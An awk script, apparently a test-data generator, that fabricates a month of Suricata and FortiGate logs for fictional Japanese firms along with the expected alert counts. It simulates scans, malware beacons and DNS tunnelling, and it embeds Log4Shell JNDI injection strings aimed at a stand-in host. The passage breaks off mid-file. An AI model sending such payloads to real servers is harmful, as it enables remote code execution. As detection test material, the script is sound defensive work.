# The month of samples; called by `generate`, which explains the output. Times inside are seconds since the first of
# October 2026, 00:00, in Japan. Every line goes through put(), every alert through count(): what is expected is what
# was written, told by the story, not by any program under test.

# ------------------------------------------------------------------------------------------------ chance and time

# Park and Miller's minimal standard generator: the same numbers in every awk.
function chance(n) {
	seed = (seed * 16807) % 2147483647
	return seed % n
}
function between(a, b) { return a + chance(b - a + 1) }
function pick(list,    part, n) {
	n = split(list, part, "|")
	return part[1 + chance(n)]
}
function at(day, hour, minute) { return ((day - 1) * 24 + hour) * 3600 + minute * 60 }
# A moment of a working day, 8:30 to 18:30, Monday to Friday (1 October 2026 is a Thursday).
function office_hours(    day) {
	do day = between(since, 31); while ((day + 2) % 7 == 5 || (day + 2) % 7 == 6)
	return at(day, 8, 30) + chance(36000)
}
function any_time() { return at(since, 0, 0) + chance((32 - since) * 86400) }
function clock(t) { return sprintf("%02d:%02d:%02d", int(t / 3600) % 24, int(t / 60) % 60, t % 60) }
function date(t) { return sprintf("2026-10-%02d", 1 + int(t / 86400)) }
function iso(t, us) { return sprintf("%sT%s.%06d+0900", date(t), clock(t), us) }

# ------------------------------------------------------------------------------------------------ output

function put(file, t, us, line) { printf "%s\t%.0f\t%s\n", folder "/" file, t * 1000000 + us, line }
function count(kind, direction, engine, detections, bad_clock,    k) {
	k = company "," kind "," direction "," engine
	if (!(k in records)) order[++orders] = k
	records[k]++
	detected[k] += detections
	bad[k] += bad_clock
}

# One record that is no alert of the device, and that a rule of config/rules makes one.
function found(direction, engine) { count("alert", direction, engine, 1, 0) }

# ------------------------------------------------------------------------------------------------ Suricata

# The head that every event has. Sets flow and micro for the parts that follow.
function eve_head(t, type, sip, sport, dip, dport, proto) {
	micro = chance(1000000)
	flow = sprintf("%d%09d", between(100000, 999999), chance(1000000000))
	return sprintf("{\"timestamp\":\"%s\",\"flow_id\":%s,\"in_iface\":\"%s\",\"event_type\":\"%s\",\"src_ip\":\"%s\",", \
		iso(t, micro), flow, interface, type, sip) \
		(sport != "" ? sprintf("\"src_port\":%d,", sport) : "") sprintf("\"dest_ip\":\"%s\",", dip) \
		(dport != "" ? sprintf("\"dest_port\":%d,", dport) : "") sprintf("\"proto\":\"%s\"", proto) \
		(version >= 8 ? sprintf(",\"ip_v\":%d", index(sip, ":") ? 6 : 4) : "") \
		(version >= 7 ? ",\"pkt_src\":\"wire/pcap\"" : "")
}
function quoted_list(list,    part, n, i, text) {
	n = split(list, part, ",")
	for (i = 1; i <= n; i++) text = text (i > 1 ? "," : "") "\"" part[i] "\""
	return "[" text "]"
}
# "attack_target=Server;mitre_technique_id=T1190" -> the metadata object
function metadata(text,    pair, n, i, cut, json) {
	n = split(text, pair, ";")
	for (i = 1; i <= n; i++) {
		cut = index(pair[i], "=")
		json = json (i > 1 ? "," : "") "\"" substr(pair[i], 1, cut - 1) "\":" quoted_list(substr(pair[i], cut + 1))
	}
	return "{" json "}"
}
# Signatures by short name: sid|rev|priority|category|name|metadata
function signature(name,    part) {
	split(signatures[name], part, "|")
	return sprintf("\"alert\":{\"action\":\"%s\",\"gid\":1,\"signature_id\":%d,\"rev\":%d,\"signature\":\"%s\",\"category\":\"%s\",\"severity\":%d,\"metadata\":%s}", \
		blocked ? "blocked" : "allowed", part[1], part[2], part[5], part[4], part[3], metadata(part[6]))
}
# An alert. The session was opened by (oip, oport) towards (rip, rport); from_server says that the packet that fired
# went the other way. more: further members (",\"http\":{...}"). direction is the truth for expected.csv.
function eve_alert(name, t, direction, oip, oport, rip, rport, proto, app, more, from_server,    line, packets) {
	if (from_server) line = eve_head(t, "alert", rip, rport, oip, oport, proto)
	else line = eve_head(t, "alert", oip, oport, rip, rport, proto)
	if (app != "") line = line ",\"tx_id\":0"
	line = line "," signature(name) more
	if (app != "") line = line ",\"app_proto\":\"" app "\""
	if (version >= 7) line = line ",\"direction\":\"" (from_server ? "to_client" : "to_server") "\""
	packets = between(1, 12)
	line = line sprintf(",\"flow\":{\"pkts_toserver\":%d,\"pkts_toclient\":%d,\"bytes_toserver\":%d,\"bytes_toclient\":%d,\"start\":\"%s\"", \
		packets, packets - 1, packets * between(60, 400), (packets - 1) * between(60, 900), iso(t, int(micro / 2)))
	if (version >= 7)
		line = line sprintf(",\"src_ip\":\"%s\",\"dest_ip\":\"%s\",\"src_port\":%d,\"dest_port\":%d", oip, rip, oport, rport)
	line = line "}"
	if (blocked && version >= 7) line = line ",\"verdict\":{\"action\":\"drop\"}"
	last_line = line "}"
	put("eve.json", t, micro, last_line)
	count("alert", direction, "ips", 1, 0)
}
function http(host, url, agent, method, status, bytes) {
	return sprintf("{\"hostname\":\"%s\",\"url\":\"%s\",\"http_user_agent\":\"%s\",\"http_method\":\"%s\",\"protocol\":\"HTTP/1.1\",\"status\":%d,\"length\":%d}", \
		host, url, agent, method, status, bytes)
}
function dns(name, type) {
	if (version >= 8)
		return sprintf("{\"version\":3,\"type\":\"request\",\"tx_id\":0,\"id\":%d,\"flags\":\"100\",\"rd\":true,\"opcode\":0,\"rcode\":\"NOERROR\",\"queries\":[{\"rrname\":\"%s\",\"rrtype\":\"%s\"}]}", \
			chance(65536), name, type)
	return sprintf("{%s\"type\":\"query\",\"id\":%d,\"rrname\":\"%s\",\"rrtype\":\"%s\",\"tx_id\":0,\"opcode\":0}", \
		version >= 7 ? "\"version\":2," : "", chance(65536), name, type)
}
# In alerts, Suricata before 8 wraps DNS as a list of queries.
function dns_in_alert(name) {
	if (version >= 8) return dns(name, "A")
	return sprintf("{\"query\":[{\"type\":\"query\",\"id\":%d,\"rrname\":\"%s\",\"rrtype\":\"A\",\"tx_id\":0,\"opcode\":0}]}", \
		chance(65536), name)
}
function tls(sni) {
	return sprintf("{\"subject\":\"CN=%s\",\"issuerdn\":\"C=XX, O=Example Trust, CN=Example Issuing CA\",\"serial\":\"0%d:%02X:%02X\",\"fingerprint\":\"%s\",\"sni\":\"%s\",\"version\":\"TLS 1.%d\",\"notbefore\":\"2026-08-01T00:00:00\",\"notafter\":\"2026-10-30T00:00:00\"}", \
		sni, chance(10), chance(256), chance(256), fingerprint(), sni, between(2, 3))
}
function fingerprint(    i, text) {
	for (i = 0; i < 20; i++) text = text (i ? ":" : "") sprintf("%02x", chance(256))
	return text
}
function outside() { return pick("203.0.113.|198.51.100.|192.0.2.") between(1, 254) }
function client() { return lan "." between(20, 20 + clients) }
function high_port() { return between(32768, 60999) }

# What a sensor sees besides alerts: understood, not stored as detections.
function context(n,    i, t, c, site, line) {
	for (i = 0; i < n; i++) {
		t = office_hours(); c = client()
		site = pick("www.example.jp|mail.example.co.jp|update.example.com|cdn.example.net|bank.example.jp|portal.example.org")
		kind = pick("flow|flow|dns|dns|tls|tls|http|fileinfo|stats|anomaly")
		if (kind == "dns") line = eve_head(t, kind, c, high_port(), "192.0.2.53", 53, "UDP") ",\"dns\":" dns(site, pick("A|AAAA|HTTPS"))
		else if (kind == "tls") line = eve_head(t, kind, c, high_port(), outside(), 443, "TCP") ",\"tls\":" tls(site)
		else if (kind == "http") line = eve_head(t, kind, c, high_port(), outside(), 80, "TCP") ",\"tx_id\":0,\"http\":" \
			http(site, "/news/" between(1, 400), "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "GET", 200, between(300, 40000))
		else if (kind == "fileinfo") line = eve_head(t, kind, outside(), 80, c, high_port(), "TCP") ",\"http\":" \
			http(site, "/doc.pdf", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "GET", 200, 48213) \
			",\"app_proto\":\"http\",\"fileinfo\":{\"filename\":\"/doc.pdf\",\"gaps\":false,\"state\":\"CLOSED\",\"stored\":false,\"size\":48213,\"tx_id\":0}"
		else if (kind == "stats") {
			micro = chance(1000000)
			line = sprintf("{\"timestamp\":\"%s\",\"event_type\":\"stats\",\"stats\":{\"uptime\":%d,\"capture\":{\"kernel_packets\":%d,\"kernel_drops\":0},\"decoder\":{\"pkts\":%d,\"invalid\":0},\"detect\":{\"engines\":[{\"id\":0,\"rules_loaded\":38211,\"rules_failed\":0}],\"alert\":%d}}", \
				iso(t, micro), t, t * 97, t * 97, int(t / 900))
		} else if (kind == "anomaly") line = eve_head(t, kind, outside(), 443, c, high_port(), "TCP") \
			",\"anomaly\":{\"type\":\"stream\",\"event\":\"stream.pkt_invalid_timestamp\"}"
		else line = eve_head(t, kind, c, high_port(), outside(), 443, "TCP") \
			sprintf(",\"app_proto\":\"tls\",\"flow\":{\"pkts_toserver\":%d,\"pkts_toclient\":%d,\"bytes_toserver\":%d,\"bytes_toclient\":%d,\"start\":\"%s\",\"end\":\"%s\",\"age\":%d,\"state\":\"closed\",\"reason\":\"timeout\",\"alerted\":false}", \
				between(4, 60), between(4, 90), between(400, 9000), between(900, 90000), iso(t, 0), iso(t, micro), 0)
		put("eve.json", t, micro, line "}")
	}
}
# A session's end as Suricata logs it; answered 0: nobody was there.
function eve_flow(t, c, sport, dip, dport, app, sent, received) {
	put("eve.json", t, 0, eve_head(t, "flow", c, sport, dip, dport, "TCP") \
		sprintf("%s,\"flow\":{\"pkts_toserver\":%d,\"pkts_toclient\":%d,\"bytes_toserver\":%d,\"bytes_toclient\":%d,\"start\":\"%s\",\"end\":\"%s\",\"age\":%d,\"state\":\"closed\",\"reason\":\"timeout\",\"alerted\":false}}", \
			app != "" ? ",\"app_proto\":\"" app "\"" : "", 4 + int(sent / 1000), received ? 3 + int(received / 1000) : 0, sent, received, iso(t - 2, 0), iso(t, 0), 2))
}
# A program that calls home by the clock, inside TLS, to a name that nobody else asks for. No signature knows it.
function beacon(host, start, end, seconds, spread, address, name,    t, port) {
	for (t = start; t < end; t += seconds + between(-spread, spread)) {
		port = high_port()
		put("eve.json", t, 0, eve_head(t, "tls", host, port, address, 443, "TCP") ",\"tls\":" tls(name) "}")
		eve_flow(t + 2, host, port, address, 443, "tls", between(1180, 1240), between(3900, 4400))
	}
}
# Data that leaves in the names that are asked for.
function dns_tunnel(host, start, n, zone,    i, t) {
	for (i = 0; i < n; i++) {
		t = start + i * 4 + chance(3)
		put("eve.json", t, 0, eve_head(t, "dns", host, high_port(), "192.0.2.53", 53, "UDP") ",\"dns\":" dns(encoded(48) "." encoded(20) "." zone, "A") "}")
	}
}
function encoded(n,    text) {
	while (length(text) < n) text = text substr("abcdefghijklmnopqrstuvwxyz234567", 1 + chance(32), 1)
	return text
}
# The rain that falls on every address: reputation lists, port scans, password guessing.
function noise(n, server,    i, t, kind, a, burst) {
	for (i = 0; i < n; i++) {
		t = any_time(); a = outside(); kind = chance(10)
		blocked = inline && kind < 6
		if (kind < 3) eve_alert("dshield", t, "inbound", a, high_port(), server, pick("22|23|445|3389|8080"), "TCP", "", "")
		else if (kind < 5) eve_alert("cins", t, "inbound", a, high_port(), server, between(1, 1023), "TCP", "", "")
		else if (kind < 6) eve_alert("spamhaus", t, "inbound", a, high_port(), server, 25, "TCP", "", "")
		else if (kind < 8) eve_alert("mssql", t, "inbound", a, high_port(), server, 1433, "TCP", "", "")
		else if (kind < 9) eve_alert("nmap", t, "inbound", a, high_port(), server, 80, "TCP", "http", ",\"http\":" \
			http("192.0.2.80", "/nmaplowercheck" between(1000, 9999), "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "GET", 404, 196))
		else for (burst = between(3, 9); burst > 0 && i < n; burst--) {
			eve_alert("ssh", t, "inbound", a, high_port(), server, 22, "TCP", "ssh", "")
			t += between(2, 40)
			if (t >= 31 * 86400) break
			if (burst > 1) i++
		}
	}
	blocked = 0
}
# Harmless things that rules speak up about.
function policy(n,    i, t) {
	for (i = 0; i < n; i++) {
		t = office_hours()
		if (chance(2)) eve_alert("apt", t, "outbound", client(), high_port(), outside(), 80, "TCP", "http", ",\"http\":" \
			http("deb.example.org", "/debian/dists/stable/InRelease", "Debian APT-HTTP/1.3 (2.6.1)", "GET", 200, 5120))
		else eve_alert("ipcheck", t, "outbound", client(), high_port(), outside(), 443, "TCP", "tls", ",\"tls\":" tls("ip.example.net"))
	}
}

# ------------------------------------------------------------------------------------------------ FortiGate

# One syslog line. The device is set by `device` and `serial`; `wrapping` is how it reaches us.
function forti(t, pri, logid, type, subtype, rest,    ms, body) {
	micro = chance(1000) * 1000
	body = sprintf("date=%s time=%s devname=\"%s\" devid=\"%s\" eventtime=%.0f%06d000 tz=\"+0900\" logid=\"%s\" type=\"%s\" subtype=\"%s\" %s", \
		date(t), clock(t), device, serial, month_start + t, micro, logid, type, subtype, rest)
	if (wrapping == 3164) body = sprintf("<%d>Oct %2d %s %s %s", pri, 1 + int(t / 86400), clock(t), device, body)
	else if (wrapping == 5424) body = sprintf("<%d>1 %s.%03d+09:00 %s - - - - %s", pri, date(t) "T" clock(t), int(micro / 1000), device, body)
	else body = sprintf("<%d>%s", pri, body)
	put("fortigate.log", t, micro, body)
}
function session(sip, sport, dip, dport, service, sintf, dintf) {
	return sprintf("vd=\"root\" srcip=%s srcport=%d srcintf=\"%s\" srcintfrole=\"%s\" dstip=%s dstport=%d dstintf=\"%s\" dstintfrole=\"%s\" proto=6 service=\"%s\" sessionid=%d policyid=%d", \
		sip, sport, sintf, sintf ~ /wan/ ? "wan" : "lan", dip, dport, dintf, dintf ~ /wan/ ? "wan" : "lan", service, between(100000, 9999999), between(1, 12))
}
function forti_ips(t, direction, severity, action, attack, id, sip, sport, dip, dport, service,    wan_first) {
	wan_first = direction == "inbound"
	forti(t, 185, "0419016384", "utm", "ips", sprintf("eventtype=\"signature\" level=\"alert\" severity=\"%s\" %s action=\"%s\" attack=\"%s\" attackid=%d profile=\"default\" ref=\"http://www.fortinet.com/ids/VID%d\" incidentserialno=%d direction=\"outgoing\" msg=\"%s\" crscore=%d crlevel=\"%s\"", \
		severity, session(sip, sport, dip, dport, service, wan_first ? "wan1" : "internal", wan_first ? "internal" : "wan1"), \
		action, attack, id, id, between(100000000, 199999999), "applications3: " attack, severity == "critical" ? 50 : 30, severity))
	count("alert", direction, "ips", 1, 0)
}
function forti_virus(t, sip, sport, dip, dport, service, inward, file, virus, more) {
	forti(t, 188, "0211008192", "utm", "virus", sprintf("eventtype=\"infected\" level=\"warning\" msg=\"File is infected.\" action=\"blocked\" %s direction=\"%s\" filename=\"%s\" quarskip=\"Quarantine-disabled\" virus=\"%s\" dtype=\"av-engine\" ref=\"http://www.fortinet.com/ve?vn=%s\" virusid=%d profile=\"default\" analyticscksum=\"%s\" analyticssubmit=\"false\" crscore=50 craction=2 crlevel=\"critical\"%s", \
		session(sip, sport, dip, dport, service, sip ~ /^192\.168\./ ? "internal" : "wan1", sip ~ /^192\.168\./ ? "wan1" : "internal"), \
		inward, file, virus, virus, between(100000, 999999), checksum(), more))
	count("alert", "inbound", "antivirus", 1, 0)
}
function checksum(    i, text) {
	for (i = 0; i < 32; i++) text = text sprintf("%02x", chance(256))
	return text
}
function forti_web(t, c, host, category, catdesc) {
	forti(t, 188, "0316013056", "utm", "webfilter", sprintf("eventtype=\"ftgd_blk\" level=\"warning\" %s hostname=\"%s\" profile=\"default\" action=\"blocked\" reqtype=\"direct\" url=\"https://%s/\" sentbyte=%d rcvdbyte=0 direction=\"outgoing\" msg=\"URL belongs to a denied category in policy\" ratemethod=\"domain\" cat=%d catdesc=\"%s\" crscore=30 craction=4194304 crlevel=\"high\"", \
		session(c, high_port(), outside(), 443, "HTTPS", "internal", "wan1"), host, host, between(200, 900), category, catdesc))
	count("alert", "outbound", "web", 1, 0)
}
# Sessions that the device forwarded: context.
function forti_traffic(n,    i, t) {
	for (i = 0; i < n; i++) {
		t = office_hours()
		forti(t, 189, "0000000013", "traffic", "forward", sprintf("level=\"notice\" %s action=\"close\" policytype=\"policy\" trandisp=\"snat\" duration=%d sentbyte=%d rcvdbyte=%d sentpkt=%d rcvdpkt=%d appcat=\"unscanned\"", \
			session(client(), high_port(), outside(), 443, "HTTPS", "internal", "wan1"), between(1, 300), between(500, 90000), between(900, 900000), between(5, 90), between(5, 900)))
	}
}
function forti_noise(n, server,    i, t, k) {
	for (i = 0; i < n; i++) {
		t = any_time(); k = chance(4)
		if (k == 0) forti_ips(t, "inbound", "medium", "dropped", "SSH.Connection.Brute.Force", 34125, outside(), high_port(), server, 22, "SSH")
		else if (k == 1) forti_ips(t, "inbound", "high", "dropped", "PHPUnit.Eval-stdin.PHP.Remote.Code.Execution", 45765, outside(), high_port(), server, 80, "HTTP")
		else if (k == 2) forti_ips(t, "inbound", "critical", "dropped", "ThinkPHP.Controller.Parameter.Remote.Code.Execution", 47283, outside(), high_port(), server, 80, "HTTP")
		else forti_ips(t, "inbound", "low", "detected", "ZGrab.Scanner", 45904, outside(), high_port(), server, 443, "HTTPS")
	}
}
# Logins at the VPN: events, and no detections.
function forti_vpn(t, action, remote, user) {
	forti(t, 185, "0101039426", "event", "vpn", sprintf("level=\"alert\" vd=\"root\" logdesc=\"SSL VPN login fail\" action=\"%s\" tunneltype=\"ssl-web\" tunnelid=0 remip=%s user=\"%s\" group=\"N/A\" dst_host=\"N/A\" reason=\"sslvpn_login_permission_denied\" msg=\"SSL user failed to logged in\"", \
		action, remote, user))
}
# A sweep that the device reports once with the number of packets behind it: that many detections.
function forti_anomaly(t, attack, id, packets, server) {
	forti(t, 185, "0720018432", "utm", "anomaly", sprintf("eventtype=\"anomaly\" level=\"alert\" vd=\"root\" severity=\"critical\" srcip=%s srccountry=\"Reserved\" dstip=%s srcintf=\"wan1\" srcintfrole=\"wan\" sessionid=0 action=\"clear_session\" proto=6 service=\"tcp/%d\" count=%d attack=\"%s\" srcport=%d dstport=%d attackid=%d policyid=1 policytype=\"DoS-policy\" ref=\"http://www.fortinet.com/ids/VID%d\" msg=\"anomaly: %s, %d > threshold 1000\" crscore=50 craction=4096 crlevel=\"critical\"", \
		outside(), server, 80, packets, attack, high_port(), 80, id, id, attack, packets + 1000))
	count("alert", "inbound", "ips", packets, 0)
}

# ------------------------------------------------------------------------------------------------ companies

function begin(f, name, member, industry, employees, area, from, to, kind) {
	folder = f; company = name; since = substr(from, 9) + 0; seed = 1000003 + 7919 * ++companies
	printf "%s,%s,%s,%s,%s,%s,%s\n", name, member, industry, employees, area, from, to > (out "/companies.csv")
	printf "%s,%s,%s\n", f, name, kind > (out "/sensors.csv")
}
function suricata(v, network, nic, is_inline, size) {
	version = v; lan = network; interface = nic; inline = is_inline; clients = size; blocked = 0
}
function fortigate(name, number, network, size, format) {
	device = name; serial = number; lan = network; clients = size; wrapping = format
}

BEGIN {
	month_start = 1790780400 # 2026-10-01T00:00:00+09:00
	print "name,member_no,industry,employees,area,from,to" > (out "/companies.csv")
	print "folder,company,kind" > (out "/sensors.csv")
	define_signatures()
	seiki(); shoji(); butsuryu(); clinic(); shokudo(); tsumugi(); kensetsu(); hyakka(); insatsu(); seicha()
	print "company,kind,direction,engine,records,detections,bad_clock" > (out "/expected.csv")
	for (i = 1; i <= orders; i++)
		printf "%s,%d,%d,%d\n", order[i], records[order[i]], detected[order[i]], bad[order[i]] > (out "/expected.csv")
}

function define_signatures() {
	signatures["dshield"] = "2402000|7012|2|Misc Attack|ET DROP Dshield Block Listed Source group 1|affected_product=Any;attack_target=Any;deployment=Perimeter;tag=Dshield;signature_severity=Major;created_at=2010_12_30;updated_at=2026_09_29"
	signatures["cins"] = "2403391|103011|2|Misc Attack|ET CINS Active Threat Intelligence Poor Reputation IP group 92|affected_product=Any;attack_target=Any;deployment=Perimeter;tag=CINS;signature_severity=Major;created_at=2013_10_08;updated_at=2026_09_29"
	signatures["spamhaus"] = "2400012|4310|2|Misc Attack|ET DROP Spamhaus DROP Listed Traffic Inbound group 13|affected_product=Any;attack_target=Any;deployment=Perimeter;tag=Dshield;signature_severity=Minor;created_at=2010_12_30;updated_at=2026_09_29"
	signatures["mssql"] = "2010935|3|2|Potentially Bad Traffic|ET SCAN Suspicious inbound to MSSQL port 1433|created_at=2010_07_30;confidence=Medium;signature_severity=Informational;updated_at=2019_07_26"
	signatures["nmap"] = "2024364|5|1|Web Application Attack|ET SCAN Possible Nmap User-Agent Observed|affected_product=Any;attack_target=Client_and_Server;deployment=Perimeter;signature_severity=Informational;created_at=2017_06_08;updated_at=2020_08_06"
	signatures["ssh"] = "2001219|20|2|Attempted Information Leak|ET SCAN Potential SSH Scan|created_at=2010_07_30;confidence=Medium;signature_severity=Informational;updated_at=2019_07_26"
	signatures["apt"] = "2013504|6|3|Not Suspicious Traffic|ET INFO GNU/Linux APT User-Agent Outbound likely related to package management|confidence=High;created_at=2011_08_31;signature_severity=Informational;updated_at=2020_04_22"
	signatures["ipcheck"] = "2900010|2|2|Device Retrieving External IP Address Detected|ET INFO External IP Address Lookup Domain in TLS SNI|attack_target=Client_Endpoint;deployment=Perimeter;signature_severity=Informational;mitre_technique_id=T1016;mitre_tactic_id=TA0007"
	signatures["log4j"] = "2034647|3|1|Attempted Administrator Privilege Gain|ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)|attack_target=Server;affected_product=Java;deployment=Perimeter,Internal;cve=CVE_2021_44228;signature_severity=Major;confidence=High;mitre_tactic_id=TA0001;mitre_tactic_name=Initial_Access;mitre_technique_id=T1190;mitre_technique_name=Exploit_Public_Facing_Application;created_at=2021_12_10;updated_at=2023_06_05"
	signatures["log4j_rmi"] = "2034648|2|1|Attempted Administrator Privilege Gain|ET EXPLOIT Apache log4j RCE Attempt (http rmi) (CVE-2021-44228)|attack_target=Server;affected_product=Java;deployment=Perimeter,Internal;cve=CVE_2021_44228;signature_severity=Major;confidence=High;mitre_tactic_id=TA0001;mitre_technique_id=T1190;created_at=2021_12_10;updated_at=2023_06_05"
	signatures["stealer_dns"] = "2900101|1|1|Domain Observed Used for C2 Detected|ET MALWARE Win32/Kagero Stealer CnC Domain in DNS Lookup (cdn-invoice .example)|attack_target=Client_Endpoint;deployment=Perimeter;malware_family=Kagero_Stealer;signature_severity=Major;confidence=High;mitre_tactic_id=TA0011;mitre_tactic_name=Command_And_Control;mitre_technique_id=T1071;created_at=2026_10_12;updated_at=2026_10_12"
	signatures["stealer_post"] = "2900102|1|1|Malware Command and Control Activity Detected|ET MALWARE Win32/Kagero Stealer Data Exfiltration (POST)|attack_target=Client_Endpoint;deployment=Perimeter;malware_family=Kagero_Stealer;signature_severity=Critical;confidence=High;mitre_tactic_id=TA0010;mitre_tactic_name=Exfiltration;mitre_technique_id=T1041;created_at=2026_10_12;updated_at=2026_10_12"
	signatures["stealer_cert"] = "2900103|1|1|Domain Observed Used for C2 Detected|ET MALWARE Observed Kagero Stealer SSL Certificate|attack_target=Client_Endpoint;deployment=Perimeter;malware_family=Kagero_Stealer;signature_severity=Major;mitre_tactic_id=TA0011;mitre_technique_id=T1573;created_at=2026_10_12;updated_at=2026_10_12"
	signatures["miner"] = "2900201|4|2|Crypto Currency Mining Activity Detected|ET COINMINER Stratum Mining Protocol Login (Outbound)|attack_target=Client_Endpoint;deployment=Perimeter;tag=Coinminer;signature_severity=Major;mitre_tactic_id=TA0040;mitre_tactic_name=Impact;mitre_technique_id=T1496;created_at=2021_02_01;updated_at=2025_11_03"
	signatures["miner_dns"] = "2900202|2|2|Crypto Currency Mining Activity Detected|ET COINMINER Mining Pool Domain in DNS Lookup|attack_target=Client_Endpoint;deployment=Perimeter;tag=Coinminer;signature_severity=Minor;mitre_technique_id=T1496;mitre_tactic_id=TA0040;created_at=2021_02_01;updated_at=2025_11_03"
	signatures["smb_exploit"] = "2024297|4|1|Attempted Administrator Privilege Gain|ET EXPLOIT ETERNALBLUE Exploit M2 MS17-010|attack_target=SMB_Server;deployment=Internal;cve=CVE_2017_0144;signature_severity=Critical;mitre_tactic_id=TA0008;mitre_tactic_name=Lateral_Movement;mitre_technique_id=T1210;created_at=2017_05_16;updated_at=2019_09_28"
	signatures["smb_service"] = "2900301|2|2|Potentially Bad Traffic|ET POLICY PsExec service created|attack_target=SMB_Server;deployment=Internal;signature_severity=Informational;mitre_tactic_id=TA0008;mitre_technique_id=T1569;created_at=2010_07_30;updated_at=2024_03_01"
	signatures["smb_scan"] = "2001569|15|3|Misc activity|ET SCAN Behavioral Unusual Port 445 traffic Potential Scan or Infection|created_at=2010_07_30;confidence=Medium;signature_severity=Informational;updated_at=2019_07_26"
	signatures["wiki"] = "2900501|2|1|Attempted Administrator Privilege Gain|ET EXPLOIT Wiki Template Injection Remote Code Execution Attempt|attack_target=Server;affected_product=Web_Server_Applications;deployment=Perimeter;signature_severity=Major;confidence=High;mitre_tactic_id=TA0001;mitre_technique_id=T1190;created_at=2024_01_22;updated_at=2026_02_03"
	signatures["implant"] = "2900502|3|1|Malware Command and Control Activity Detected|ET MALWARE Tobiuo Implant Check-in|attack_target=Client_Endpoint;deployment=Perimeter;malware_family=Tobiuo;signature_severity=Critical;confidence=High;mitre_tactic_id=TA0011;mitre_tactic_name=Command_And_Control;mitre_technique_id=T1071;created_at=2026_03_09;updated_at=2026_08_30"
	signatures["sqli"] = "2006445|14|1|Web Application Attack|ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM|affected_product=Web_Server_Applications;attack_target=Web_Server;deployment=Datacenter;tag=SQL_Injection;signature_severity=Major;created_at=2010_07_30;updated_at=2022_05_18"
	signatures["wp"] = "2900401|2|2|Attempted Information Leak|ET WEB_SERVER WordPress xmlrpc.php Brute Force Attempt|attack_target=Web_Server;deployment=Perimeter;tag=Wordpress;signature_severity=Minor;mitre_tactic_id=TA0006;mitre_technique_id=T1110;created_at=2014_08_01;updated_at=2023_02_02"
	signatures["rdp"] = "2900402|3|2|Misc activity|ET SCAN MS Terminal Server Traffic on Non-standard Port|attack_target=Any;deployment=Perimeter;signature_severity=Informational;created_at=2017_01_23;updated_at=2025_01_09"
}

# A maker of precision parts. Suricata 7 in line with the traffic. On the evening of the 14th, sixty addresses try
# Log4Shell on its order portal; all of it is dropped. Later a drawing computer beacons.
function seiki(    i, t, a) {
	begin("seiki", "株式会社みおつくし精機", "101-0142", "製造", 42, "大阪市西区", "2026-10-01", "", "suricata")
	suricata(7, "192.168.1", "enp2s0", 1, 40)
	context(700); noise(620, "192.168.1.10"); policy(30)
	blocked = 1
	for (i = 0; i < 480; i++) {
		t = at(14, 21, 4) + int(i * 18) + chance(15); a = "203.0.113." (10 + i % 60)
		eve_alert(i % 7 == 6 ? "log4j_rmi" : "log4j", t, "inbound", a, high_port(), "192.168.1.10", 8080, "TCP", "http", ",\"http\":" \
			http("order.miotsukushi.example", "/?x=${jndi:" (i % 7 == 6 ? "rmi" : "ldap") "://198.51.100.99:1389/a}", "${jndi:ldap://198.51.100.99:1389/a}", "GET", 403, 0))
	}
	blocked = 0
	# From the 20th a drawing computer calls a place that nobody else knows, every five minutes; no signature fires.
	beacon("192.168.1.33", at(20, 9, 12), at(21, 18, 0), 300, 6, "203.0.113.150", "sync-metrics.example")
	# A line that was cut off when the appliance lost power, and one from before its clock was set.
	put("eve.json", at(5, 3, 12), 0, "{\"timestamp\":\"2026-10-05T03:12:00.120411+0900\",\"flow_id\":18446,\"event_type\":\"alert\",\"src_ip\":\"203.0.1")
	count("unparsed", "unknown", "other", 1, 0)
	bad_clock_alert(at(5, 3, 14))
}
# Right after a cold start: the alert is real, its time is not.
function bad_clock_alert(t,    line) {
	line = eve_head(t, "alert", "203.0.113.7", 40222, "192.168.1.10", 445, "TCP") "," signature("dshield") \
		",\"direction\":\"to_server\",\"flow\":{\"pkts_toserver\":1,\"pkts_toclient\":0,\"bytes_toserver\":60,\"bytes_toclient\":0,\"start\":\"1970-01-01T09:00:41.000000+0900\",\"src_ip\":\"203.0.113.7\",\"dest_ip\":\"192.168.1.10\",\"src_port\":40222,\"dest_port\":445}}"
	sub(/"timestamp":"[^"]*"/, "\"timestamp\":\"1970-01-01T09:00:41.118203+0900\"", line)
	put("eve.json", t, micro, line)
	count("alert", "inbound", "ips", 1, 1)
}

# A wholesaler behind a FortiGate. On the 7th its mail gateway takes viruses out of "invoices". On the 9th a desk in
# accounts fetches one from a web page; the first part is stopped, something else is not, for a quarter of an hour later
# the desk calls a command server, every ten minutes, and nobody stops it.
function shoji(    i, t) {
	begin("shoji", "八軒家商事株式会社", "101-0377", "卸売", 28, "大阪市中央区", "2026-10-01", "", "fortigate")
	fortigate("FGT60F-HACHIKENYA", "FGT60FTK20990001", "192.168.10", 30, 0)
	forti_traffic(420); forti_noise(240, "192.168.10.10")
	for (i = 0; i < 7; i++)
		forti_virus(at(7, 9, 12) + i * between(60, 400), "198.51.100." (20 + i % 3), high_port(), "192.168.10.25", 25, "SMTP", "outgoing", \
			"seikyusho_2026100" i ".xlsm", "VBA/Agent.KGR!tr.dldr", sprintf(" from=\"keiri@partner%d.example\" to=\"info@hachikenya.example\" subject=\"請求書送付のご案内\"", i % 3))
	for (i = 0; i < 5; i++)
		forti_virus(office_hours(), client(), high_port(), outside(), 80, "HTTP", "incoming", "setup_" i ".exe", "Riskware/BundleInstaller", " url=\"http://download.example.net/setup.exe\"")
	for (i = 0; i < 14; i++)
		forti_web(office_hours(), client(), pick("prize.example|login-bank.example|track-parcel.example"), 61, "Phishing")
	forti_virus(at(9, 10, 26), "192.168.10.57", high_port(), "198.51.100.23", 80, "HTTP", "incoming", "seikyusho_1009.zip", "W32/Agent.KGR!tr", " url=\"http://partner1.example/seikyusho_1009.zip\"")
	for (t = at(9, 10, 41); t < at(11, 16, 0); t += 600 + between(-20, 20))
		forti_ips(t, "outbound", "critical", "detected", "Backdoor.Kagero.Beacon", 52310, "192.168.10.57", high_port(), "198.51.100.77", 443, "HTTPS")
	forti_anomaly(at(19, 2, 30), "tcp_port_scan", 100663398, 37, "192.168.10.10")
}

# A haulier, Suricata 7 on a mirror port. A driver's terminal leaks to an information stealer on the 20th; two days
# later the same host goes through the file servers inside.
function butsuryu(    i, t) {
